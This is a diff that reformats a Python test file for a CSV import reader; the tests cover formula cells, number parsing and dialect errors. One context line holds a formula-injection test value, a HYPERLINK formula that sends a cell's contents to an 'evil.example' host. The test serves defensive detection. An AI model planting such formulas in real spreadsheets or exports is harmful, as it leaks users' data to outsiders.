@@ -141,7 +141,13 @@ def odd_headings(*shown: str) -> Expectation:
 def formulas(reading: Reading) -> None:
     assert errors(reading) == []
     assert {(p.line, p.column) for p in found(reading, "formula")} == {
-        (2, "name"), (3, "name"), (4, "name"), (4, "sector"), (4, "owner_org"), (5, "name"), (5, "sector"),
+        (2, "name"),
+        (3, "name"),
+        (4, "name"),
+        (4, "sector"),
+        (4, "owner_org"),
+        (5, "name"),
+        (5, "sector"),
     }
     assert names(reading)["svc-1"] == '=HYPERLINK("http://evil.example/?"&A1,"x")'
     assert names(reading)["svc-4"] == "\t=1+1"
@@ -215,8 +221,16 @@ def deep_tree(reading: Reading) -> None:
 
 def budgets(reading: Reading) -> None:
     assert [(p.code, p.line) for p in reading.problems if p.severity is Severity.ERROR] == [
-        ("ambiguous-number", 3), ("ambiguous-number", 4), ("bad-number", 6), ("bad-number", 7), ("bad-number", 8),
-        ("bad-number", 9), ("bad-number", 10), ("bad-number", 11), ("bad-number", 12), ("too-many-digits", 13),
+        ("ambiguous-number", 3),
+        ("ambiguous-number", 4),
+        ("bad-number", 6),
+        ("bad-number", 7),
+        ("bad-number", 8),
+        ("bad-number", 9),
+        ("bad-number", 10),
+        ("bad-number", 11),
+        ("bad-number", 12),
+        ("too-many-digits", 13),
     ]
     assert things(reading)["d"]["yearly_cost"] == 1250
     assert things(reading)["a"]["yearly_cost"] == 1250
@@ -229,7 +243,9 @@ def dates(reading: Reading) -> None:
 
 def strengths(reading: Reading) -> None:
     assert errors(reading) == [
-        ("bad-number", 2, "strength"), ("out-of-range", 3, "strength"), ("ambiguous-number", 4, "strength"),
+        ("bad-number", 2, "strength"),
+        ("out-of-range", 3, "strength"),
+        ("ambiguous-number", 4, "strength"),
     ]
 
 
@@ -323,7 +339,9 @@ EXPECTED: dict[str, Expectation] = {
     "csv_08_nul_bytes.csv": control_characters,
     "csv_10_semicolon_unhinted.csv": dialect("delimiter ;", "Helsestasjon booking"),
     "csv_11_tab_named_csv.csv": dialect("delimiter TAB", "Helsestasjon booking"),
-    "csv_13_unclosed_quote.csv": refused("unclosed-quote", words="opened at line 2, column name", line=2, column="name"),
+    "csv_13_unclosed_quote.csv": refused(
+        "unclosed-quote", words="opened at line 2, column name", line=2, column="name"
+    ),
     "csv_14_too_few_fields.csv": short_row,
     "csv_16_ragged_cr_only.csv": clean(2),
     "csv_17_blank_and_comma_rows.csv": blank_rows,
